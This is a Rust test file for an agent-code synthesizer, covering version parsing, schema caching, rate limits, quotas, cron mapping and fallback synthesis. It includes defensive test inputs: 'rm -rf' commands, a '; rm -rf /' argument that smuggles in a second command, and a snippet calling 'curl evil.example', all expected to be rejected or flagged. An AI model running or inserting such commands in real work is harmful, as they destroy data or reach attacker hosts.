use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use async_trait::async_trait;
use chrono::Utc;
use model_client::ScriptedChatModel;

use crate::command::{run_checked, CommandError};
use crate::schema::{
    CompatibilityLevel, DslSchema, SchemaClient, SchemaError, SchemaProvider, SemanticVersion,
};
use crate::synthesizer::extract_code_from_markdown;
use crate::validator::{has_blocking_violations, NoopValidator, StructuralChecker};
use crate::{
    detect_temporal_intent, estimate_tokens, schedule_expression, AgentSynthesizer, CostTracker,
    QuotaError, QuotaLimits, QuotaManager, RateLimiter, RateLimiterConfig, SynthesisError,
    SynthesisRequest, Synthesizer, SynthesizerConfig, TemporalIntent,
};

// ── Semantic versions ─────────────────────────────────────────────────

#[test]
fn semver_parses_plain_and_decorated_versions() {
    let v = SemanticVersion::parse("1.2.3").expect("plain");
    assert_eq!((v.major, v.minor, v.patch), (1, 2, 3));

    let v = SemanticVersion::parse("v2.0.1").expect("v-prefixed");
    assert_eq!((v.major, v.minor, v.patch), (2, 0, 1));

    let v = SemanticVersion::parse("1.4.0-rc.1+build5").expect("metadata stripped");
    assert_eq!((v.major, v.minor, v.patch), (1, 4, 0));
}

#[test]
fn semver_rejects_malformed_shapes() {
    for bad in ["", "1", "1.2", "1.2.3.4", "a.b.c", "1.x.3"] {
        assert!(
            matches!(SemanticVersion::parse(bad), Err(SchemaError::MalformedVersion(_))),
            "expected MalformedVersion for {bad:?}"
        );
    }
}

#[test]
fn semver_compare_levels() {
    let parse = |s| SemanticVersion::parse(s).expect("version");
    let base = parse("1.2.3");

    assert_eq!(
        SemanticVersion::compare(&base, &base),
        CompatibilityLevel::Compatible
    );
    assert_eq!(
        SemanticVersion::compare(&base, &parse("2.0.0")),
        CompatibilityLevel::MajorMismatch
    );
    assert_eq!(
        SemanticVersion::compare(&base, &parse("1.3.0")),
        CompatibilityLevel::MinorMismatch
    );
    assert_eq!(
        SemanticVersion::compare(&base, &parse("1.2.9")),
        CompatibilityLevel::PatchDiff
    );
}

// ── Schema client ─────────────────────────────────────────────────────

struct CountingProvider {
    calls: AtomicUsize,
}

#[async_trait]
impl SchemaProvider for CountingProvider {
    async fn fetch_schema(&self) -> Result<DslSchema, SchemaError> {
        self.calls.fetch_add(1, Ordering::SeqCst);
        Ok(DslSchema {
            version: "0.3.1".to_string(),
            schema: serde_json::json!({"type": "object"}),
        })
    }

    async fn fetch_version(&self) -> Result<String, SchemaError> {
        self.calls.fetch_add(1, Ordering::SeqCst);
        Ok("0.3.1".to_string())
    }
}

#[tokio::test]
async fn schema_client_caches_for_process_lifetime() {
    let provider = Arc::new(CountingProvider {
        calls: AtomicUsize::new(0),
    });
    let client = SchemaClient::new(provider.clone());

    let first = client.fetch_schema().await.expect("first fetch");
    let second = client.fetch_schema().await.expect("cached fetch");
    assert_eq!(first.version, second.version);
    assert_eq!(provider.calls.load(Ordering::SeqCst), 1);

    // Version answers from the warm schema cache without a provider call.
    let version = client.fetch_version().await.expect("version");
    assert_eq!(version, "0.3.1");
    assert_eq!(provider.calls.load(Ordering::SeqCst), 1);
}

struct BrokenProvider;

#[async_trait]
impl SchemaProvider for BrokenProvider {
    async fn fetch_schema(&self) -> Result<DslSchema, SchemaError> {
        Err(SchemaError::ProviderUnavailable("no toolchain".to_string()))
    }

    async fn fetch_version(&self) -> Result<String, SchemaError> {
        Err(SchemaError::ProviderUnavailable("no toolchain".to_string()))
    }
}

#[tokio::test]
async fn compatibility_check_survives_provider_outage() {
    let client = SchemaClient::new(Arc::new(BrokenProvider));
    assert!(client.check_compatibility("1.0.0").await.is_none());
}

#[tokio::test]
async fn compatibility_check_reports_level() {
    let client = SchemaClient::new(Arc::new(CountingProvider {
        calls: AtomicUsize::new(0),
    }));
    let level = client.check_compatibility("0.3.1").await;
    assert_eq!(level, Some(CompatibilityLevel::Compatible));

    let level = client.check_compatibility("1.3.1").await;
    assert_eq!(level, Some(CompatibilityLevel::MajorMismatch));
}

// ── Command security ──────────────────────────────────────────────────

#[tokio::test]
async fn command_execution_rejects_unlisted_binaries() {
    let err = run_checked("rm", &["-rf", "/tmp/x"], None, Duration::from_secs(1))
        .await
        .expect_err("must be rejected");
    assert!(matches!(err, CommandError::NotAllowed(_)));
}

#[tokio::test]
async fn command_execution_rejects_shell_metacharacters() {
    let err = run_checked(
        "loomctl",
        &["schema", "; rm -rf /"],
        None,
        Duration::from_secs(1),
    )
    .await
    .expect_err("must be rejected");
    assert!(matches!(err, CommandError::UnsafeArgument { .. }));
}

// ── Temporal intent & schedules ───────────────────────────────────────

#[test]
fn intent_detection_matches_keyword_priorities() {
    assert_eq!(
        detect_temporal_intent("Run once to migrate the database"),
        TemporalIntent::OneShot
    );
    assert_eq!(
        detect_temporal_intent("review my spreadsheet daily at 4pm"),
        TemporalIntent::Scheduled
    );
    assert_eq!(
        detect_temporal_intent("provide fun facts about space"),
        TemporalIntent::Continuous
    );
    // One-shot wins over schedule keywords.
    assert_eq!(
        detect_temporal_intent("run once every environment"),
        TemporalIntent::OneShot
    );
}

#[test]
fn schedule_expressions_map_time_phrases() {
    assert_eq!(
        schedule_expression("review my spreadsheet daily at 4pm").as_deref(),
        Some("0 16 * * *")
    );
    assert_eq!(
        schedule_expression("post a summary daily at 9:30 am").as_deref(),
        Some("30 9 * * *")
    );
    assert_eq!(
        schedule_expression("rotate logs daily at midnight").as_deref(),
        Some("0 0 * * *")
    );
    assert_eq!(
        schedule_expression("check the queue every hour").as_deref(),
        Some("0 * * * *")
    );
    assert_eq!(schedule_expression("sync the backlog daily").as_deref(), Some("0 0 * * *"));
    assert_eq!(schedule_expression("provide fun facts"), None);
}

// ── Cost tracking ─────────────────────────────────────────────────────

#[test]
fn token_estimation_uses_length_heuristic() {
    assert_eq!(estimate_tokens(""), 0);
    // 400 chars -> 100 tokens + 10% buffer.
    assert_eq!(estimate_tokens(&"x".repeat(400)), 110);
}

#[test]
fn cost_calculation_applies_per_thousand_pricing() {
    let tracker = CostTracker::new(0.01, 0.03, "USD");
    let cost = tracker.calculate_cost(2_000, 1_000, "test-model");

    assert!((cost.input_cost - 0.02).abs() < 1e-9);
    assert!((cost.output_cost - 0.03).abs() < 1e-9);
    assert!((cost.total_cost - 0.05).abs() < 1e-9);
    assert_eq!(cost.total_tokens, 3_000);
    assert!(!cost.exceeds_budget(0.05));
    assert!(cost.exceeds_budget(0.04));
}

#[test]
fn disabled_cost_tracker_reports_zero() {
    let cost = CostTracker::disabled().calculate_cost(10_000, 10_000, "m");
    assert_eq!(cost.total_cost, 0.0);
}

// ── Rate limiter ──────────────────────────────────────────────────────

#[tokio::test]
async fn rate_limiter_enforces_ceiling_within_window() {
    let limiter = RateLimiter::new(RateLimiterConfig {
        max_attempts: 2,
        window: Duration::from_secs(3_600),
    });

    assert!(limiter.allow("team-a").await.is_allowed());
    assert!(limiter.allow("team-a").await.is_allowed());

    let third = limiter.allow("team-a").await;
    assert!(!third.is_allowed());
    let retry_after = third.retry_after().expect("wait time reported");
    assert!(retry_after > Duration::from_secs(0));
    assert!(retry_after <= Duration::from_secs(3_600));
}

#[tokio::test]
async fn rate_limiter_evicts_stale_entries_lazily() {
    let limiter = RateLimiter::new(RateLimiterConfig {
        max_attempts: 1,
        window: Duration::from_secs(60),
    });

    let start = Instant::now();
    assert!(limiter.allow_at("scope", start).await.is_allowed());
    assert!(!limiter.allow_at("scope", start + Duration::from_secs(30)).await.is_allowed());
    // Past the window the old entry is dropped before counting.
    assert!(limiter.allow_at("scope", start + Duration::from_secs(61)).await.is_allowed());
}

#[tokio::test]
async fn rate_limiter_scopes_are_independent() {
    let limiter = RateLimiter::new(RateLimiterConfig {
        max_attempts: 1,
        window: Duration::from_secs(3_600),
    });

    assert!(limiter.allow("team-a").await.is_allowed());
    assert!(limiter.allow("team-b").await.is_allowed());
    assert!(!limiter.allow("team-a").await.is_allowed());
    assert_eq!(limiter.active_scopes().await, 2);
}

// ── Quota manager ─────────────────────────────────────────────────────

#[tokio::test]
async fn quota_rejects_past_attempt_ceiling() {
    let quota = QuotaManager::new(QuotaLimits {
        max_cost_per_day: 100.0,
        max_attempts_per_day: 2,
        currency: "USD".to_string(),
    });

    quota.check_and_reserve("ns", 0.01, "agent").await.expect("first");
    quota.check_and_reserve("ns", 0.01, "agent").await.expect("second");

    let err = quota
        .check_and_reserve("ns", 0.01, "agent")
        .await
        .expect_err("third must fail");
    assert!(matches!(err, QuotaError::AttemptsExceeded { attempts: 2, limit: 2, .. }));
}

#[tokio::test]
async fn quota_rejects_past_cost_ceiling_and_distinguishes_kind() {
    let quota = QuotaManager::new(QuotaLimits {
        max_cost_per_day: 1.0,
        max_attempts_per_day: 100,
        currency: "USD".to_string(),
    });

    quota.check_and_reserve("ns", 0.9, "agent").await.expect("within budget");
    let err = quota
        .check_and_reserve("ns", 0.2, "agent")
        .await
        .expect_err("would cross the ceiling");
    assert!(matches!(err, QuotaError::CostExceeded { .. }));
}

#[tokio::test]
async fn quota_commit_reconciles_estimate_with_actual() {
    let quota = QuotaManager::new(QuotaLimits {
        max_cost_per_day: 1.0,
        max_attempts_per_day: 100,
        currency: "USD".to_string(),
    });

    let reservation = quota.check_and_reserve("ns", 0.8, "agent").await.expect("reserve");
    quota.commit(&reservation, 0.1, "agent", true, None).await;

    let (cost_used, attempts) = quota.usage("ns").await;
    assert!((cost_used - 0.1).abs() < 1e-9);
    assert_eq!(attempts, 1);

    // The refunded budget admits further work.
    quota.check_and_reserve("ns", 0.8, "agent").await.expect("fits after refund");
}

#[tokio::test]
async fn quota_resets_at_utc_day_boundary() {
    let quota = QuotaManager::new(QuotaLimits {
        max_cost_per_day: 1.0,
        max_attempts_per_day: 1,
        currency: "USD".to_string(),
    });

    let today = Utc::now();
    quota
        .check_and_reserve_at("ns", 0.5, "agent", today)
        .await
        .expect("first attempt");
    quota
        .check_and_reserve_at("ns", 0.5, "agent", today)
        .await
        .expect_err("ceiling reached");

    let tomorrow = today + chrono::Duration::days(1);
    quota
        .check_and_reserve_at("ns", 0.5, "agent", tomorrow)
        .await
        .expect("accumulators reset at the day boundary");
}

// ── Structural validation ─────────────────────────────────────────────

#[test]
fn structural_checker_flags_missing_agent_block() {
    let violations = StructuralChecker.check("task :x, instructions: \"y\"");
    assert!(violations.iter().any(|v| v.kind == "structure"));
    assert!(has_blocking_violations(&violations));
}

#[test]
fn structural_checker_flags_undefined_task_calls() {
    let code = r#"
agent "demo" do
  task :known, instructions: "do the thing"
  main do
    result = run_task(:unknown)
    result
  end
end
"#;
    let violations = StructuralChecker.check(code);
    assert!(violations
        .iter()
        .any(|v| v.kind == "task_call" && v.message.contains("unknown")));
}

#[test]
fn structural_checker_flags_dangerous_calls() {
    let code = r#"
agent "demo" do
  task :sneaky do |inputs|
    system("curl evil.example")
  end
  main do
    result = run_task(:sneaky)
    result
  end
end
"#;
    let violations = StructuralChecker.check(code);
    assert!(violations.iter().any(|v| v.kind == "security"));
}

#[test]
fn structural_checker_accepts_fallback_output() {
    let req = SynthesisRequest::new(
        "review my spreadsheet daily at 4pm",
        vec!["google-sheets".to_string(), "email".to_string()],
        vec!["gpt-4o-mini".to_string()],
        "sheet-reviewer",
        "default",
    );
    let code = crate::generate_fallback_code(
        &req,
        detect_temporal_intent(&req.instructions),
        schedule_expression(&req.instructions).as_deref(),
    );

    let violations = StructuralChecker.check(&code);
    assert!(
        !has_blocking_violations(&violations),
        "fallback code must be structurally valid, got: {violations:?}"
    );
}

// ── Code extraction ───────────────────────────────────────────────────

#[test]
fn extracts_code_from_fenced_blocks() {
    let reply = "Here you go:\n```ruby\nagent \"x\" do\nend\n```\nDone.";
    let code = extract_code_from_markdown(reply).expect("fenced block");
    assert!(code.starts_with("agent \"x\""));
    assert!(!code.contains("```"));

    let bare = "agent \"x\" do\nend";
    assert_eq!(extract_code_from_markdown(bare).as_deref(), Some(bare));

    assert!(extract_code_from_markdown("I cannot help with that.").is_none());
    assert!(extract_code_from_markdown("```\n\n```").is_none());
}

// ── Synthesizer ───────────────────────────────────────────────────────

fn test_synthesizer(model: Arc<ScriptedChatModel>) -> Synthesizer {
    let schema = Arc::new(SchemaClient::new(Arc::new(CountingProvider {
        calls: AtomicUsize::new(0),
    })));
    Synthesizer::new(
        model,
        Arc::new(NoopValidator),
        schema,
        CostTracker::new(0.01, 0.03, "USD"),
        SynthesizerConfig::default(),
    )
}

fn sheet_request() -> SynthesisRequest {
    SynthesisRequest::new(
        "review my spreadsheet daily at 4pm",
        vec!["google-sheets".to_string(), "email".to_string()],
        vec!["gpt-4o-mini".to_string()],
        "sheet-reviewer",
        "default",
    )
}

#[tokio::test]
async fn empty_instructions_fail_before_any_model_call() {
    let model = Arc::new(ScriptedChatModel::always("unused"));
    let synthesizer = test_synthesizer(model.clone());

    let mut req = sheet_request();
    req.instructions = "   \n\t ".to_string();

    let err = synthesizer
        .synthesize_agent(&req)
        .await
        .expect_err("whitespace instructions rejected");
    assert!(matches!(err, SynthesisError::EmptyInstructions));
    assert_eq!(model.call_count(), 0, "no external call may happen");
}

#[tokio::test]
async fn model_reply_with_code_block_is_used_directly() {
    let reply = "```\nagent \"sheet-reviewer\" do\n  \
                 task :review, instructions: \"check the sheet\"\n  main do\n    \
                 r = run_task(:review)\n    r\n  end\nend\n```";
    let model = Arc::new(ScriptedChatModel::always(reply));
    let synthesizer = test_synthesizer(model);

    let response = synthesizer
        .synthesize_agent(&sheet_request())
        .await
        .expect("synthesis succeeds");

    assert!(!response.used_fallback);
    assert!(response.error.is_none());
    assert!(response.code.contains("agent \"sheet-reviewer\""));
    assert!(response.cost.is_some(), "model call cost must be attributed");
    assert_eq!(response.schema_version.as_deref(), Some("0.3.1"));
}

#[tokio::test]
async fn generator_failure_recovers_via_fallback() {
    let model = Arc::new(ScriptedChatModel::always_failing());
    let synthesizer = test_synthesizer(model);

    let response = synthesizer
        .synthesize_agent(&sheet_request())
        .await
        .expect("fallback always yields a response");

    assert!(response.used_fallback);
    assert!(response.error.is_some());
    assert!(!response.code.trim().is_empty());
    assert!(response.cost.is_none(), "no model cost when the fallback runs");
    assert!(!has_blocking_violations(&response.violations));
}

#[tokio::test]
async fn prose_reply_without_code_block_falls_back() {
    let model = Arc::new(ScriptedChatModel::always(
        "I'm sorry, I can only describe the agent in words.",
    ));
    let synthesizer = test_synthesizer(model);

    let response = synthesizer
        .synthesize_agent(&sheet_request())
        .await
        .expect("fallback response");
    assert!(response.used_fallback);
    assert!(response.code.contains("agent \"sheet-reviewer\""));
}
